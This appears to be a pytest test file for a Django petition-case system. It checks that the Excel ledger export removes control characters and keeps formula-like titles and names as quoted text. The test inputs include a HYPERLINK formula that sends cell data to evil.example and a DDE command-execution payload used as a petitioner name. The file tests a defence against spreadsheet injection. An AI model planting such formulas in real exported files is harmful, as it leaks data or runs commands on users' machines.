"""The Excel 台账 writes every text as text: control characters pasted from Word never break the file, and text
that looks like a formula never becomes one."""

from __future__ import annotations

import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from xinfang.cases.export import COLUMNS
from xinfang.cases.services import PetitionerInput

pytestmark = pytest.mark.django_db

EXPORT = reverse("workbench:case_export")
TITLE = COLUMNS.index(("标题", 40))
NAME = [c[0] for c in COLUMNS].index("主要信访人")


@pytest.fixture(autouse=True)
def frozen_today():
    with time_machine.travel(dt.datetime(2026, 11, 26, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=8))), tick=False):
        yield


def sheet(client):
    resp = client.get(EXPORT)
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.content)).active
    return [list(row) for row in ws.iter_rows(min_row=2)]


def test_control_characters_do_not_break_the_export(client, petition, county):
    petition(title="工资\x01拖欠\x0b第二行", petitioners=[PetitionerInput(name="陈\x02大明")])
    client.force_login(county.zhang)
    rows = sheet(client)
    assert rows[0][TITLE].value == "工资拖欠\n第二行"
    assert rows[0][NAME].value == "陈大明"


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "  =1+1",
        "\t=1+1",
    ],
)
def test_text_that_looks_like_a_formula_stays_text(client, petition, county, title):
    petition(title=title, petitioners=[PetitionerInput(name="=cmd|' /C calc'!A0")])
    client.force_login(county.zhang)
    rows = sheet(client)
    cells = [c for row in rows for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    title_cell, name_cell = rows[0][TITLE], rows[0][NAME]
    assert title_cell.value == title.strip() and title_cell.data_type == "s" and title_cell.quotePrefix
    assert name_cell.value == "=cmd|' /C calc'!A0" and name_cell.quotePrefix


def test_leading_spaces_do_not_hide_a_formula(client, petition, county):
    # Titles and names are trimmed on registration; a category name (data an administrator edits) is not.
    from xinfang.cases.models import Category

    category = Category.objects.create(code="X1", name=" \t=1+1")
    petition(category=category)
    client.force_login(county.zhang)
    cell = sheet(client)[0][[c[0] for c in COLUMNS].index("内容分类")]
    assert cell.value == " \t=1+1" and cell.data_type == "s" and cell.quotePrefix


def test_ordinary_text_is_left_alone(client, petition, county):
    case = petition(title="东街村道路硬化工程拖欠工人工资")
    client.force_login(county.zhang)
    row = sheet(client)[0]
    assert row[0].value == case.number and not row[0].quotePrefix
    assert row[TITLE].value == "东街村道路硬化工程拖欠工人工资" and not row[TITLE].quotePrefix
